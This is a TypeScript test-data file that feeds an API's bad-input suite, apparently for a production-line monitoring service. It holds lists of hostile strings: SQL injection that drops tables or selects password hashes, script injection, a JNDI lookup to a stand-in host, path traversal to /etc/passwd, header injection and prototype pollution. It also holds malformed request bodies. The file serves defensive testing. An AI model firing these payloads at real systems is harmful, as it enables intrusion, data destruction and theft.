/**
 * Bad input, as data: what the bad-input suite throws at every endpoint (path parameters, query
 * parameters, bodies). Add cases here; every endpoint, present and future, gets them.
 */

/** SQL injection, script injection and other hostile strings. */
export const HOSTILE_STRINGS: string[] = [
  "' OR '1'='1",
  "admin'--",
  "'; DROP TABLE users; --",
  '1; DELETE FROM audit_log',
  "' UNION SELECT password_hash FROM users --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}${7*7}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie: x=1',
  'null\u0000byte',
  '\u202eRTL override',
  'x'.repeat(10_000),
];

/** Values for path parameters: hostile strings plus malformed identifiers. */
export const PATH_VALUES: string[] = [
  ...HOSTILE_STRINGS.filter((s) => s.length < 2000),
  'not-a-uuid',
  '00000000-0000-0000-0000-00000000000g',
  '-1',
  '9'.repeat(40),
];

/** Values for query parameters: every one of these must be refused. */
export const QUERY_VALUES: string[] = HOSTILE_STRINGS;

/**
 * Edge values that may be legal for a free-text filter (an actor named "0"): never a 5xx, and either
 * refused with a code or answered normally.
 */
export const QUERY_EDGE_VALUES: string[] = ['-1', '0', '1e309', 'NaN', '', ' ', '1.5', '0x1F', '+15', '15 '];

export interface BodyCase {
  name: string;
  contentType: string;
  /** Sent as is. */
  raw: string;
}

const json = (name: string, value: unknown): BodyCase => ({
  name,
  contentType: 'application/json',
  raw: JSON.stringify(value),
});

/** Field names the API uses anywhere, so hostile values reach every DTO's fields. */
const FIELDS = [
  'username',
  'password',
  'role',
  'disabled',
  'name',
  'refreshToken',
  'gatewayId',
  'events',
  'timezone',
  'productionDayStart',
  'microStopSeconds',
  'shifts',
  'lines',
];

const everyField = (value: unknown) => Object.fromEntries(FIELDS.map((f) => [f, value]));

export const BODY_CASES: BodyCase[] = [
  { name: 'malformed JSON (truncated)', contentType: 'application/json', raw: '{"username": "a", "pass' },
  { name: 'malformed JSON (trailing comma)', contentType: 'application/json', raw: '{"name": "a",}' },
  { name: 'malformed JSON (single quotes)', contentType: 'application/json', raw: "{'name': 'a'}" },
  { name: 'top-level string', contentType: 'application/json', raw: '"name"' },
  { name: 'top-level number', contentType: 'application/json', raw: '42' },
  { name: 'top-level null', contentType: 'application/json', raw: 'null' },
  json('top-level array', [{ name: 'a', username: 'a', password: 'aaaaaaaa', role: 'viewer' }]),
  json('empty array', []),
  json('empty object', {}),
  json('unknown fields only', { admin: true, isAdmin: 1, extra: 'x' }),
  {
    name: 'prototype pollution',
    contentType: 'application/json',
    raw: '{"__proto__": {"role": "admin"}, "constructor": {"prototype": {"role": "admin"}}}',
  },
  json('wrong types: numbers', everyField(7)),
  json('wrong types: objects', everyField({ $gt: '' })),
  json('wrong types: arrays', everyField([1, 2])),
  json('wrong types: null', everyField(null)),
  json('wrong types: booleans', everyField(true)),
  ...HOSTILE_STRINGS.map((s, i) => json(`hostile string #${i} in every field`, everyField(s))),
  // The andon rules' own fields: out of range, the wrong type, a percentage on a rule without one, a kind twice.
  ...[
    [{ kind: 'line-below-target', thresholdPercent: 0 }],
    [{ kind: 'line-below-target', thresholdPercent: 101 }],
    [{ kind: 'line-below-target', thresholdPercent: 79.5 }],
    [{ kind: 'line-below-target', thresholdPercent: '80' }],
    [{ kind: 'bottleneck-moved', thresholdPercent: 80 }],
    [{ kind: 'bottleneck-moved' }, { kind: 'bottleneck-moved', enabled: false }],
  ].map((rules) => json(`andon rules ${JSON.stringify(rules)}`, { rules })),
  json('oversized (300 kB)', { name: 'x'.repeat(300 * 1024) }),
  json('oversized (5 MB)', { gatewayId: 'gw', events: ['x'.repeat(5 * 1024 * 1024)] }),
  { name: 'text/plain', contentType: 'text/plain', raw: '{"name": "a"}' },
  { name: 'form-urlencoded', contentType: 'application/x-www-form-urlencoded', raw: 'name=a&role=admin' },
  {
    name: 'multipart',
    contentType: 'multipart/form-data; boundary=x',
    raw: '--x\r\nContent-Disposition: form-data; name="name"\r\n\r\na\r\n--x--',
  },
  { name: 'XML', contentType: 'application/xml', raw: '<name>a</name>' },
  { name: 'JSON in UTF-16', contentType: 'application/json; charset=utf-16', raw: '{"name": "a"}' },
];
